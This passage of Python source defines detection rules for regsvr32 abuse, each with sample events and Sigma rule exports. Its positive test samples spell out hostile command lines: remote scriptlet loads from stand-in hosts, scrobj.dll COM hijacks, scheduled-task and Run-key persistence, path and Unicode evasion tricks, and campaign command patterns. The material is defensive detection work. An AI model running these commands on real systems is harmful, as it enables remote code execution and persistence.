         "ParentImage": "C:\\Windows\\System32\\regsvr32.exe"},),
      negatives=(
        {"Image": "C:\\Windows\\SysWOW64\\regsvr32.exe", "CommandLine": " /s C:\\x\\a.dll",
         "ParentImage": "C:\\Windows\\System32\\regsvr32.exe"},
        {"Image": "C:\\Windows\\System32\\calc.exe", "CommandLine": "calc.exe"},),
      sigma=spec("exact", "process_creation",
                 {"selection": {"ParentImage|endswith": "\\regsvr32.exe"},
                  "filter_self": {"Image|endswith": "\\regsvr32.exe"}},
                 "selection and not filter_self", ""))
def any_child(ev):
    if ev.image_name in ("", REGSVR32):
        return None
    return "regsvr32 started a child process %s" % (ev.image or ev.image_name)


@rule("R32-019", "Renamed regsvr32",
      actor(PROCESS), risk=80, family="renamed_or_relocated_binary", evidence="identity",
      techniques=(T, "T1036.003"),
      sources=("L18", "Splunk 7349a9e9", "Sigma 0ba1da6d", "Elastic EP b0207677"),
      description=("The file is regsvr32 (OriginalFileName REGSVR32.EXE, or the file description "
                   "'Microsoft(C) Register Server' where Sysmon logs no OriginalFileName, or, "
                   "where the log has neither (4688), a command line only regsvr32 takes: a "
                   "remote /i: scriptlet or scrobj.dll with /i:) but it runs under another name."),
      positives=(
        {"EventCode": "4688", "NewProcessName": "C:\\ProgramData\\jabber.exe", "Image": None,
         "CommandLine": "jabber.exe  /u /s /i:http://pastebin.example/raw/x .\\jabber.dll"},
        {"Image": "C:\\Users\\Public\\svc.exe",
         "CommandLine": "svc.exe /s /u /i:http://example.com/a.sct scrobj.dll",
         "OriginalFileName": "REGSVR32.EXE"},
        {"Image": "C:\\ProgramData\\jabber.exe",
         "CommandLine": "jabber.exe  /u /s /i:http://pastebin.example/raw/x .\\jabber.dll",
         "Description": "Microsoft(C) Register Server"},),
      negatives=(
        {"CommandLine": "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
         "OriginalFileName": "REGSVR32.EXE"},
        {"Image": "C:\\x\\tool.exe", "CommandLine": "C:\\x\\tool.exe",
         "OriginalFileName": "tool.exe"},),
      sigma=spec("approximate", "process_creation",
                 {"selection": [{"OriginalFileName": "REGSVR32.EXE"},
                                {"Description": "Microsoft(C) Register Server"}],
                  "filter_name": {"Image|endswith": "\\regsvr32.exe"}},
                 "selection and not filter_name",
                 "by OriginalFileName or description only; the detector also knows a renamed "
                 "copy by a command line only regsvr32 takes (4688 logs neither)"))
def renamed_binary(ev):
    if not ev.image_name or ev.image_name == REGSVR32:
        return None
    if ev.original_file_name.lower() == REGSVR32:
        evidence = "OriginalFileName %s" % ev.original_file_name
    elif ev.description:
        evidence = "file description '%s'" % ev.description
    else:
        evidence = "its command line is regsvr32's: %s" % _clip(ev.command_line, 120)
    return "regsvr32 runs under the name %s (%s)" % (ev.image or ev.image_name, evidence)


@rule("R32-020", "regsvr32.exe running from an unexpected folder",
      actor(PROCESS), risk=70, family="renamed_or_relocated_binary", evidence="identity",
      techniques=(T, "T1036.005"),
      sources=("L19", "Sigma e4a6b256", "Splunk 326fdf44", "Elastic EP 35dedf0c",
               "Sigma 933f0bb5"),
      description=("An image named regsvr32.exe outside System32, SysWOW64, WinSxS and the "
                   "Windows servicing folders: a copy planted next to a payload or a look-alike."),
      positives=(
        {"Image": "C:\\Users\\Public\\regsvr32.exe",
         "CommandLine": "C:\\Users\\Public\\regsvr32.exe /c echo scrobj.exe /i:"},),
      negatives=(
        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
        {"Image": "C:\\Windows\\SysWOW64\\regsvr32.exe", "CommandLine": "regsvr32 /s x.dll"},),
      sigma=spec("exact", "process_creation",
                 {"selection": BY_REGSVR32,
                  "filter_home": {"Image|contains": list(REGSVR32_HOMES)}},
                 "selection and not filter_home", ""))
def unexpected_home(ev):
    # (an image without its folder, or a relative one, is an unknown folder, not an unexpected one)
    image = ev.image.lower().replace("/", "\\")
    if ev.image_name != REGSVR32 or not winpath.is_absolute(image) or image.startswith(REGSVR32_HOMES, 1):
        return None
    return "regsvr32.exe runs from %s, not from System32 or SysWOW64" % ev.image


@rule("R32-021", "regsvr32 connected to a public address",
      actor(NETWORK), risk=70, family="network", evidence="network",
      techniques=(T, "T1105"),
      sources=("L20", "Sigma c7e91a02", "Elastic fb02b8d3", "Splunk 2820f032"),
      description=("An outbound connection by regsvr32 to an internet address: fetching a "
                   "scriptlet or talking to a controller."),
      positives=(
        {"DestinationIp": "151.101.0.133"},
        {"DestinationIp": "104.20.208.21", "DestinationPort": "80"},),
      negatives=(
        {"DestinationIp": "10.0.2.15"},
        {"DestinationIp": "151.101.0.133", "Initiated": "false"},),
      sigma=spec("approximate", "network_connection",
                 {"selection": dict(BY_REGSVR32, Initiated="true"),
                  "filter_local": {"DestinationIp|cidr": NON_PUBLIC}},
                 "selection and not filter_local",
                 "Initiated must be 'true' (the detector also accepts it missing); the "
                 "non-public ranges are listed as of Python's ipaddress"))
def public_connection(ev):
    return _connection(ev, public=True)


@rule("R32-022", "regsvr32 connected to a non-public address",
      actor(NETWORK), risk=30, family="network", evidence="network",
      techniques=(T,), sources=("L20", "Sigma c7e91a02"),
      description=("An outbound connection by regsvr32 to a private, loopback, link-local or "
                   "reserved address: internal staging servers and lateral movement; lower risk "
                   "than a public one."),
      positives=(
        {"DestinationIp": "10.1.2.3", "DestinationPort": "445"},),
      negatives=(
        {"DestinationIp": "151.101.0.133"},),
      sigma=spec("approximate", "network_connection",
                 {"selection": dict(BY_REGSVR32, Initiated="true"),
                  "selection_local": {"DestinationIp|cidr": NON_PUBLIC}},
                 "selection and selection_local", "as R32-021"))
def private_connection(ev):
    return _connection(ev, public=False)


@rule("R32-023", "regsvr32 resolved a host name",
      actor(DNS), risk=50, family="network", evidence="network",
      techniques=(T, "T1105"), sources=("L20", "Sigma 36e037c4", "Elastic 1fe3b299"),
      description=("A DNS query by regsvr32 (Sysmon 22). The default allowlist keeps certificate "
                   "revocation and OCSP hosts."),
      positives=(
        {"QueryName": "raw.githubusercontent.com"},),
      negatives=(
        {"Image": "C:\\Windows\\System32\\svchost.exe", "QueryName": "regsvr32.example"},),
      sigma=spec("exact", "dns_query", {"selection": BY_REGSVR32}, "selection", ""))
def dns_query(ev):
    if not ev.query_name:
        return None
    return "regsvr32 looked up %s" % ev.query_name


@rule("R32-024", "regsvr32 run with no arguments",
      COMMAND_LINE, risk=70, family="implicit_dllregisterserver_and_odd_invocations",
      evidence="invocation",
      techniques=(T, "T1055"),
      sources=("L21", "Sigma a7c3d773", "Sigma 20384606", "Elastic EP 95601d8b"),
      description=("regsvr32 with nothing to register does nothing by itself: a sacrificial "
                   "process for injected code (Cobalt Strike spawnto)."),
      positives=(
        {"Image": "C:\\Windows\\SysWOW64\\regsvr32.exe",
         "CommandLine": "C:\\Windows\\SysWOW64\\regsvr32.exe"},
        '"regsvr32.exe"  ',),
      negatives=(
        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
        {"EventCode": "4688", "NewProcessName": "C:\\Windows\\System32\\regsvr32.exe",
         "CommandLine": "", "Image": None, "ParentImage": None},),
      sigma=spec("approximate", "process_creation",
                 {"selection_img": IMG, "selection_cli": {"CommandLine|re":
                  r"(?i)^\s*\"?[^\"]*regsvr32(?:\.exe)?\"?\s*$"}},
                 "selection_img and selection_cli",
                 "a regular expression for a command line that is only the program"))
def no_arguments(inv):
    if not inv.program or inv.args:
        return None
    return "regsvr32 ran with no arguments (%s): a sacrificial process for injected code" % (
        _clip(inv.line))


# Publishers of endpoint security products whose hook DLLs every process loads (Sysmon's
# Signature, lower case, as it starts). Not Microsoft: Defender's own folders are ACL-protected
# and trusted by location (winpath), and a Microsoft-signed DLL copied elsewhere is side-loading.
SECURITY_SIGNERS = (
    "crowdstrike", "sentinelone", "sentinel labs", "sophos", "symantec", "broadcom", "mcafee",
    "trellix", "trend micro", "eset", "kaspersky", "bitdefender", "palo alto networks",
    "cylance", "blackberry", "carbon black", "vmware, inc.", "cisco systems", "malwarebytes",
    "avast", "avg technologies", "gen digital", "f-secure", "withsecure", "check point",
    "fortinet", "cybereason", "elasticsearch", "tanium", "webroot", "panda security",
    "g data", "deep instinct", "huntress", "rapid7", "qualys", "trustwave", "harfanglab",
    "secureworks", "morphisec", "cynet", "opentext")


def _security_product_hook(ev):
    """A validly signed security vendor's module loaded from a folder of its own (not a staging,
    suspicious or network folder): the product's hook in every process, context not evidence."""
    if ev.signed.lower() != "true" or ev.signature_status.lower() not in ("valid", "trusted"):
        return False
    t = ev.loaded
    if t.staging or t.location in (winpath.SUSPICIOUS, winpath.NETWORK, winpath.UNKNOWN):
        return False
    signer = ev.signature.lower()
    return any(signer.startswith(name) for name in SECURITY_SIGNERS)


@rule("R32-025", "regsvr32 loaded an unsigned module from outside Windows and Program Files",
      actor(IMAGE_LOAD), risk=70, family="image_loads", evidence="load",
      techniques=(T,), sources=("CAR-2019-04-002", "Veramine", "L22"),
      description=("Sysmon image load: Signed=false and the module is not under Windows or "
                   "Program Files (the seed analytics' unsigned-load logic)."),
      positives=(
        {"ImageLoaded": "C:\\AtomicRedTeam\\atomics\\T1218.010\\bin\\AllTheThingsx86.dll",
         "Signed": "false", "SignatureStatus": "Unavailable", "Signature": ""},),
      negatives=(
        {"ImageLoaded": "C:\\Windows\\System32\\msxml6.dll"},
        {"ImageLoaded": "C:\\Program Files\\K-Lite Codec Pack\\Filters\\x.ax", "Signed": "false",
         "SignatureStatus": "Unavailable", "Signature": ""},),
      sigma=spec("approximate", "image_load",
                 {"selection": dict(BY_REGSVR32, Signed="false"),
                  "filter_trusted": {"ImageLoaded|contains": [
                      ":\\Windows\\", ":\\Program Files\\", ":\\Program Files (x86)\\"]}},
                 "selection and not filter_trusted",
                 "trusted folders by substring; the detector resolves the path first"))
def unsigned_outside(ev):
    if ev.signed.lower() != "false":
        return None
    t = ev.loaded
    if t.location in winpath.TRUSTED_LOCATIONS:
        return None
    return "regsvr32 loaded the unsigned module %s (%s)" % (ev.image_loaded, t.where or t.location)


@rule("R32-026", "regsvr32 loaded a module without a trusted signature",
      actor(IMAGE_LOAD), risk=45, family="image_loads", evidence="load",
      techniques=(T,), sources=("L22", "Sigma b5de0c9a"),
      description=("Sysmon image load whose Signed is not true and whose SignatureStatus is not "
                   "Valid/Trusted/expired/chaining (Sigma b5de0c9a), wherever the module is."),
      positives=(
        {"ImageLoaded": "C:\\Program Files\\Vendor\\x.dll", "Signed": "false",
         "SignatureStatus": "Unavailable", "Signature": ""},),
      negatives=(
        {"ImageLoaded": "C:\\Windows\\System32\\msxml6.dll"},
        {"ImageLoaded": "C:\\Program Files\\Vendor\\x.dll", "Signed": "false",
         "SignatureStatus": "Expired", "Signature": ""},),
      sigma=spec("exact", "image_load",
                 {"selection": BY_REGSVR32,
                  "filter_signed": {"Signed": "true"},
                  "filter_status": {"SignatureStatus": sorted(TRUSTED_SIGNATURE_STATUS)},
                  "filter_empty": {"SignatureStatus": ""}},
                 "selection and not filter_signed and not filter_status and not filter_empty", ""))
def untrusted_signature(ev):
    status = ev.signature_status.lower()
    if ev.signed.lower() == "true" or not status \
            or status in TRUSTED_SIGNATURE_STATUS:
        return None
    return "regsvr32 loaded %s whose signature status is %s" % (
        ev.image_loaded, ev.signature_status)


@rule("R32-027", "regsvr32 loaded the scriptlet runtime",
      actor(IMAGE_LOAD), risk=75, family="image_loads", evidence="scriptlet",
      techniques=(T,), sources=("Veramine", "L25", "Elastic 4ed678a9"),
      description=("regsvr32 loaded scrobj.dll: a scriptlet is running, whatever the command "
                   "line said (it also catches a renamed scrobj.dll copy loaded under its real "
                   "name)."),
      positives=(
        {"ImageLoaded": "C:\\Windows\\System32\\scrobj.dll"},),
      negatives=(
        {"ImageLoaded": "C:\\Windows\\System32\\msxml6.dll"},
        {"Image": "C:\\Windows\\System32\\cscript.exe",
         "ImageLoaded": "C:\\Windows\\System32\\scrobj.dll"},),
      sigma=spec("exact", "image_load",
                 {"selection": dict(BY_REGSVR32, **{"ImageLoaded|endswith": ends(SCRIPT_RUNTIMES)})},
                 "selection", ""))
def script_runtime_load(ev):
    name = winpath.basename(ev.image_loaded).lower()
    if name not in SCRIPT_RUNTIMES:
        return None
    return "regsvr32 loaded the scriptlet runtime %s" % ev.image_loaded


@rule("R32-028", ".NET runtime inside regsvr32 (DotNetToJScript)",
      actor(IMAGE_LOAD, FILE), risk=75, family="image_loads", evidence="scriptlet",
      techniques=(T, "T1620"),
      sources=("L24", "Veramine", "Sigma 4508a70e", "Sigma e0b06658", "Elastic acf738b5",
               "LOLBAS"),
      description=("regsvr32 loaded clr.dll, mscoree.dll or mscorlib, or wrote the .NET usage "
                   "log UsageLogs\\regsvr32.exe.log: a scriptlet is running .NET code."),
      positives=(
        {"ImageLoaded": "C:\\Windows\\Microsoft.NET\\Framework\\v4.0.30319\\clr.dll"},
        {"EventCode": "11",
         "TargetFilename": "C:\\Users\\bob\\AppData\\Local\\Microsoft\\CLR_v4.0_32\\UsageLogs\\regsvr32.exe.log"},),
      negatives=(
        {"ImageLoaded": "C:\\Windows\\System32\\msxml6.dll"},
        {"EventCode": "11", "TargetFilename": "C:\\Users\\bob\\x.log"},),
      sigma=spec("approximate", "image_load",
                 {"selection": dict(BY_REGSVR32, **{"ImageLoaded|endswith": ends(CLR_MODULES)})},
                 "selection",
                 "the image-load half only; the UsageLogs\\regsvr32.exe.log file write is a "
                 "separate Sigma log source"))
def clr_in_regsvr32(ev):
    if ev.kind == IMAGE_LOAD and winpath.basename(ev.image_loaded).lower() in CLR_MODULES:
        return "regsvr32 loaded the .NET runtime %s (DotNetToJScript)" % ev.image_loaded
    if ev.kind == FILE and ev.target_filename.lower().endswith("\\usagelogs\\regsvr32.exe.log"):
        return "regsvr32 wrote the .NET usage log %s (DotNetToJScript)" % ev.target_filename
    return None


@rule("R32-029", "regsvr32 loaded a module from a user-writable folder or with an odd extension",
      actor(IMAGE_LOAD), risk=60, family="image_loads", evidence="load",
      techniques=(T,), sources=("Veramine", "L12", "Elastic EP 76da5dca", "Sentinel f24f6403"),
      description=("Sysmon image load of a module in a user-writable, suspicious or network "
                   "location, or whose extension is not one a loaded module has (Elastic "
                   "76da5dca). Defender's ACL-protected ProgramData folders are not "
                   "user-writable (MpOAV.dll, MpClient.dll load into every process), and a "
                   "validly signed security vendor's hook DLL in a folder of its own is the "
                   "product at work, not evidence."),
      positives=(
        {"ImageLoaded": "C:\\Users\\bob\\AppData\\Local\\Temp\\shell32.jpg"},
        {"ImageLoaded": "C:\\Users\\Public\\x.dll", "Signed": "false",
         "SignatureStatus": "Unavailable", "Signature": ""},
        {"ImageLoaded": "C:\\ProgramData\\Vendor\\hook.dll", "Signature": "Sophos Ltd",
         "SignatureStatus": "Unavailable"},),
      negatives=(
        {"ImageLoaded": "C:\\Windows\\System32\\msxml6.dll"},
        {"ImageLoaded": "C:\\Program Files\\Vendor\\x.ocx"},
        {"ImageLoaded": "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MpOAV.dll",
         "Signature": "Microsoft Corporation"},
        {"ImageLoaded": "C:\\ProgramData\\Sophos\\Sophos Anti-Virus\\x64\\sophos_detoured_x64.dll",
         "Signature": "Sophos Ltd"},),
      sigma=not_exportable("folder classes and extension lists of the loaded module, resolved"))
def odd_module_load(ev):
    if not ev.image_loaded or _security_product_hook(ev):
        return None
    t = ev.loaded
    if t.location in (winpath.USER_WRITABLE, winpath.SUSPICIOUS, winpath.NETWORK):
        return "regsvr32 loaded %s from %s" % (ev.image_loaded, _where(t))
    if t.ext and t.ext not in LOADABLE_EXTS:
        return "regsvr32 loaded %s, a module with the extension .%s" % (ev.image_loaded, t.ext)
    return None


@rule("R32-030", "Scriptlet runtime loaded by an unexpected Windows program",
      any_event(IMAGE_LOAD), risk=45, family="image_loads", evidence="scriptlet",
      techniques=(T,), sources=("L25", "Elastic 4ed678a9"),
      description=("A System32 or SysWOW64 program outside the usual script hosts loaded "
                   "scrobj.dll (Elastic 4ed678a9); regsvr32 itself is R32-027."),
      positives=(
        {"Image": "C:\\Windows\\System32\\rundll32.exe",
         "ImageLoaded": "C:\\Windows\\System32\\scrobj.dll"},),
      negatives=(
        {"Image": "C:\\Windows\\System32\\cscript.exe",
         "ImageLoaded": "C:\\Windows\\System32\\scrobj.dll"},
        {"ImageLoaded": "C:\\Windows\\System32\\scrobj.dll"},),
      sigma=not_exportable("needs the Windows location of the loading image and a list of its hosts"))
def scrobj_elsewhere(ev):
    if winpath.basename(ev.image_loaded).lower() != "scrobj.dll" or ev.image_name in SCROBJ_HOSTS:
        return None
    comps = ev.image.lower().split("\\")
    if comps[1:3] not in (["windows", "system32"], ["windows", "syswow64"]):
        return None
    return "%s loaded the scriptlet runtime scrobj.dll" % ev.image


@rule("R32-031", "COM class pointed at scrobj.dll or a scriptlet URL",
      any_event(REGISTRY), risk=70, family="registry_persistence_and_scrobj_com_hijack",
      evidence="persistence",
      techniques=("T1546.015", T),
      sources=("L26", "Sigma fe20dda1", "Elastic 16a52c14", "Splunk 127c8d08"),
      description=("A registry write that makes a COM class's InprocServer32 scrobj.dll or sets "
                   "a ScriptletURL: a scriptlet COM hijack that runs whenever the class is used."),
      positives=(
        {"Image": "C:\\Windows\\System32\\reg.exe",
         "TargetObject": "HKU\\S-1-5-21-1\\SOFTWARE\\Classes\\CLSID\\{00000001-0000-0000-0000-0000FEEDACDC}\\InprocServer32\\(Default)",
         "Details": "C:\\WINDOWS\\system32\\scrobj.dll"},
        {"Image": "C:\\Windows\\System32\\reg.exe",
         "TargetObject": "HKU\\S-1-5-21-1\\SOFTWARE\\Classes\\CLSID\\{00000001-0000-0000-0000-0000FEEDACDC}\\ScriptletURL\\(Default)",
         "Details": "https://example.org/a.sct"},),
      negatives=(
        {"TargetObject": "HKLM\\SOFTWARE\\Classes\\CLSID\\{1}\\InprocServer32\\(Default)",
         "Details": "C:\\Windows\\System32\\scrobj.dll.bak\\x.dll"},
        {"TargetObject": "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\x",
         "Details": "scrobj"},
        {"TargetObject": "HKLM\\SOFTWARE\\Classes\\CLSID\\{2}\\InprocServer32\\(Default)",
         "Details": "C:\\Program Files\\A\\a.dll"},),
      sigma=spec("approximate", "registry_set",
                 {"selection_url": {"TargetObject|contains": "\\ScriptletURL"},
                  "selection_scrobj": {"TargetObject|contains": "\\InprocServer32",
                                       "Details|endswith": ["\\scrobj.dll", "\\scrobj.dll\""]},
                  "selection_remcos": {"TargetObject|contains":
                                       REMCOS_CLSID + "\\InprocServer32"}},
                 "1 of selection_*", "the registry data is matched by its ending, not parsed"))
def scrobj_com(ev):
    key = ev.registry_path.lower()
    data = ev.registry_data.lower()
    if "\\scriptleturl" in key:
        return "COM class points at a scriptlet URL: %s = %s" % (key, _clip(ev.registry_data))
    if "\\inprocserver32" not in key:
        return None
    if winpath.basename(data.strip('"')) == "scrobj.dll":
        remcos = " (the CLSID Remcos uses)" if REMCOS_CLSID in key else ""
        return "COM class %s is served by scrobj.dll%s" % (_clip(ev.registry_path), remcos)
    if REMCOS_CLSID in key:
        return "COM class %s, the one Remcos hijacks, now points at %s" % (
            REMCOS_CLSID, _clip(ev.registry_data))
    return None


@rule("R32-032", "Icon-overlay handler registered by regsvr32",
      actor(REGISTRY), risk=55, family="registry_persistence_and_scrobj_com_hijack",
      evidence="persistence",
      techniques=(T, "T1546.015"), sources=("Veramine",),
      description=("regsvr32 wrote under ShellIconOverlayIdentifiers: an Explorer shell "
                   "extension that loads in every Explorer process (persistence; Veramine). The "
                   "default allowlist keeps the Dropbox client's overlays."),
      positives=(
        {"TargetObject": "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\ShellIconOverlayIdentifiers\\  Updater\\(Default)",
         "Details": "{0F0F0F0F-1111-2222-3333-444455556666}"},),
      negatives=(
        {"Image": "C:\\Windows\\explorer.exe",
         "TargetObject": "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\ShellIconOverlayIdentifiers\\ Updater\\(Default)",
         "Details": "{0F0F}"},),
      sigma=spec("exact", "registry_set",
                 {"selection": dict(BY_REGSVR32, **{
                     "TargetObject|contains": "\\ShellIconOverlayIdentifiers\\"})},
                 "selection", ""))
def icon_overlay(ev):
    if "\\shelliconoverlayidentifiers\\" not in ev.registry_path.lower():
        return None
    return "regsvr32 registered an icon-overlay handler %s" % _clip(ev.registry_path)


@rule("R32-033", "regsvr32 created a thread in another process",
      actor(REMOTE_THREAD), risk=80, family="children_of_regsvr32", evidence="behaviour",
      techniques=(T, "T1055"), sources=("L34", "Sigma 02d1d718"),
      description=("Sysmon CreateRemoteThread with regsvr32 as the source: code injection from "
                   "the registered module."),
      positives=(
        {"TargetImage": "C:\\Windows\\explorer.exe"},),
      negatives=(
        {"SourceImage": "C:\\Windows\\System32\\csrss.exe",
         "TargetImage": "C:\\Windows\\System32\\regsvr32.exe"},),
      sigma=spec("exact", "create_remote_thread",
                 {"selection": {"SourceImage|endswith": "\\regsvr32.exe"}}, "selection", ""))
def remote_thread(ev):
    return "regsvr32 created a thread in %s" % (ev.target_image or "another process")


@rule("R32-034", "Persistence that launches regsvr32",
      any_event(PERSISTENCE, REGISTRY, PROCESS), risk=65, family="registry_persistence_and_scrobj_com_hijack",
      evidence="persistence",
      techniques=(T, "T1053.005", "T1543.003", "T1547.001"),
      sources=("L33", "Sigma 3a734d25", "Sigma 614cf376", "CAR-2021-12-001"),
      description=("A scheduled task, service, autorun registry value, or a schtasks/reg/sc "
                   "command that will run regsvr32 later."),
      positives=(
        {"EventCode": "13", "Image": "C:\\Windows\\System32\\reg.exe",
         "TargetObject": "HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\upd",
         "Details": "regsvr32 /s %APPDATA%\\upd.dll"},
        {"EventCode": "1", "Image": "C:\\Windows\\System32\\schtasks.exe",
         "CommandLine": 'schtasks /create /sc minute /tn u /tr "regsvr32 /s C:\\Users\\Public\\u.dll"'},
        {"EventCode": "7045", "ImagePath": "regsvr32.exe /s C:\\ProgramData\\svc.dll"},
        {"EventCode": "13", "Image": "C:\\Windows\\System32\\services.exe",
         "TargetObject": "HKLM\\System\\CurrentControlSet\\Services\\UpdSvc\\ImagePath",
         "Details": "regsvr32.exe /s C:\\ProgramData\\upd.dll"},),
      negatives=(
        {"EventCode": "13",
         "TargetObject": "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\x",
         "Details": "C:\\x\\tool.exe"},
        {"EventCode": "1", "Image": "C:\\Windows\\System32\\schtasks.exe",
         "CommandLine": "schtasks /query"},),
      sigma=not_exportable("spans four log sources (tasks, services, registry, process creation); Sigma "
                           "rules 3a734d25 and 614cf376 cover the task part"))
def persistence(ev):
    if ev.kind == PERSISTENCE:
        text, how = ev.task_content or ev.service_path, (
            "scheduled task" if ev.task_content else "service")
    elif ev.kind == REGISTRY:
        key = ev.registry_path.lower()
        if not any(k in key for k in _AUTORUN_KEYS):
            return None
        text, how = ev.registry_data, "autorun value %s" % _clip(ev.registry_path, 100)
    elif ev.image_name in PERSISTENCE_TOOLS:
        text, how = ev.command_line, ev.image_name
    else:
        return None
    for shown in [text] + cmdline.powershell_commands(text, *_program_names(ev)):
        at = shown.lower().find("regsvr32")
        if at >= 0:
            hidden = "" if shown is text else " (in an encoded PowerShell command)"
            return "%s launches regsvr32%s: %s" % (how, hidden, _clip(shown[at:], 200))
    return None


@rule("R32-035", "Path or switch syntax that evades string rules",
      COMMAND_LINE, risk=45, family="implicit_dllregisterserver_and_odd_invocations",
      lowered_by=("windows", "trusted"),
      evidence="syntax",
      techniques=(T, "T1027.010"), sources=("L29", "Elastic EP 5db08297"),
      description=("Forward slashes, '..' in an absolute path, 8.3 short names, \\\\?\\ or \\\\.\\ "
                   "prefixes, NTFS alternate data streams, unexpanded %VARIABLES% or switches "
                   "run together (/s/u/i:): forms that only serve to get past substring rules."),
      positives=(
        "regsvr32 /s C:/Users/Public/x.dat",
        "regsvr32 /s C:\\PROGRA~3\\x.dat",
        "regsvr32 /s C:\\Users\\Public\\x.txt:payload.dll",
        "regsvr32 /s/u/i:http://example.com/a.sct scrobj.dll",),
      negatives=(
        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
        {"CommandLine": "regsvr32 /s ..\\lib\\x.dll", "CurrentDirectory": "C:\\App\\bin"},),
      sigma=not_exportable("finds syntax tricks by parsing (quotes, carets, 8.3 names, '..'); a field "
                           "match is exactly what they evade"))
def path_syntax(inv):
    seen = [a for a in inv.anomalies if "switch prefix" not in a and "entry point" not in a]
    for t in inv.targets:
        seen.extend(t.anomalies)
    if not seen:
        return None
    return "path or switch syntax that string rules miss: %s" % "; ".join(seen[:4])


@rule("R32-036", "Unicode look-alikes in the command line",
      COMMAND_LINE, risk=70, family="implicit_dllregisterserver_and_odd_invocations",
      evidence="syntax",
      techniques=(T, "T1027.010"), sources=("L30", "Elastic 37148ae6", "Sigma b236190c"),
      description=("Switches written with Unicode dashes (U+2013, U+2014, U+2015) or modifier "
                   "letters in the command line: obfuscation aimed at literal-string rules."),
      positives=(
        "regsvr32 \u2013s \u2013u \u2013i:http://example.com/a.sct scrobj.dll",
        "regsvr32 /s C:\\x\\\u02b0a.dll",),
      negatives=(
        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",),
      sigma=spec("approximate", "process_creation",
                 {"selection_img": IMG, "selection_cli": {"CommandLine|re":
                  "[\u2013\u2014\u2015\u02b0-\u02ff\u1d2c-\u1dbf]"}},
                 "selection_img and selection_cli",
                 "look-alike dashes and modifier letters anywhere in the line"))
def unicode_tricks(inv):
    if inv.line.isascii() if hasattr(str, "isascii") else False:
        return None
    dashes = [a for a in inv.anomalies if "switch prefix" in a]
    if dashes:
        return "Unicode look-alike switch: %s" % dashes[0]
    m = _MODIFIER_LETTERS.search(inv.line)
    if m:
        return "Unicode modifier letter U+%04X in the command line" % ord(m.group(0))
    return None


@rule("R32-037", "Module on another drive or mounted media",
      COMMAND_LINE, risk=20, family="suspicious_paths_and_disguised_extensions",
      lowered_by=("own tree", "agent"),
      evidence="location",
      techniques=(T,), sources=("L28", "Sigma d4ca7c59", "Elastic 8a1d4831"),
      description=("The module (resolved against the working directory) is in a folder on a "
                   "drive other than C:. Low risk: servers and developers keep software on other "
                   "drives; the root of such a drive, where a mounted ISO or USB stick puts its "
                   "files, is R32-041."),
      positives=(
        "regsvr32 /s E:\\files\\invoice.dll",
        {"CommandLine": "regsvr32 /s x.dll", "CurrentDirectory": "D:\\Apps\\Billing"},),
      negatives=(
        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
        "regsvr32 /s E:\\invoice.dll",),
      sigma=spec("approximate", "process_creation",
                 {"selection_img": IMG, "selection_cli": {"CommandLine|re":
                  r"(?i)(?:^|[\s\"'])[d-z]:\\"}},
                 "selection_img and selection_cli",
                 "an absolute path on drive D: to Z: anywhere in the line; the detector also "
                 "resolves relative modules against the working directory"))
def other_drive(inv):
    for m in inv.modules:
        if m.location == winpath.OTHER_DRIVE and m.depth > 0:
            return "module %s is on %s, in a folder (software on a data drive, or mounted media)" % (
                _clip(m.path), m.where)
    return None


def _qakbot(inv):
    return "s" in inv.flags and inv.args and inv.args[-1].lower() == "calc"


def _bluemushroom(inv):
    return inv.entry_points and any(m.where.startswith("AppData\\Local") for m in inv.modules)


def _evilnum(inv):
    return inv.flags >= {"s", "i"} and any(
        m.where == "AppData\\Roaming" and m.ext == "ocx" for m in inv.modules)


CAMPAIGNS = (("Qakbot (-s ... calc)", _qakbot),
             ("BlueMushroom (,DllEntry from AppData\\Local)", _bluemushroom),
             ("EvilNum (/s /i .ocx from AppData\\Roaming)", _evilnum))


@rule("R32-038", "Known campaign pattern",
      COMMAND_LINE, risk=90, family="suspicious_paths_and_disguised_extensions",
      evidence="campaign",
      techniques=(T,), sources=("L31", "Sigma 0033cf83", "Sigma bd70d3f8", "Sigma 8acf3cfa"),
      description=("Patterns of named campaigns: Qakbot (-s ... calc), BlueMushroom (,DllEntry "
                   "from AppData\\Local), EvilNum (/s /i .ocx from AppData\\Roaming)."),
      positives=(
        "regsvr32 -s C:\\Users\\bob\\AppData\\Local\\Temp\\x.dll calc",
        "regsvr32 /s C:\\Users\\bob\\AppData\\Local\\x.dll,DllEntry",
        "regsvr32 /s /i C:\\Users\\bob\\AppData\\Roaming\\a.ocx",),
      negatives=(
        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
        "regsvr32 /s C:\\Users\\bob\\AppData\\Roaming\\a.dll",),
      sigma=spec("approximate", "process_creation",
                 {"selection_img": IMG,
                  "selection_campaign_qakbot": {"CommandLine|windash|contains": " -s",
                                                "CommandLine|endswith": " calc"},
                  "selection_campaign_bluemushroom": {"CommandLine|contains|all": [
                      "\\AppData\\Local\\", ",DllEntry"]},
                  # windash cannot be combined with all (pySigma), and a regex inside "1 of"
                  # breaks the Splunk backend's output: the second switch is a plain list
                  "selection_campaign_evilnum": {"CommandLine|windash|contains": " -i",
                                                 "CommandLine|contains": [" /s", " -s"],
                                                 "CommandLine|contains|all": [
                                                     "\\AppData\\Roaming\\", ".ocx"]}},
                 "selection_img and 1 of selection_campaign_*",
                 "the three campaign patterns as substrings"))
def campaign(inv):
    for name, test in CAMPAIGNS:
        if test(inv):
            return "matches the %s pattern" % name
    return None


@rule("R32-039", "Module in an unusual folder",
      COMMAND_LINE, risk=25, family="suspicious_paths_and_disguised_extensions",
      lowered_by=("own tree", "agent"),
      evidence="location",
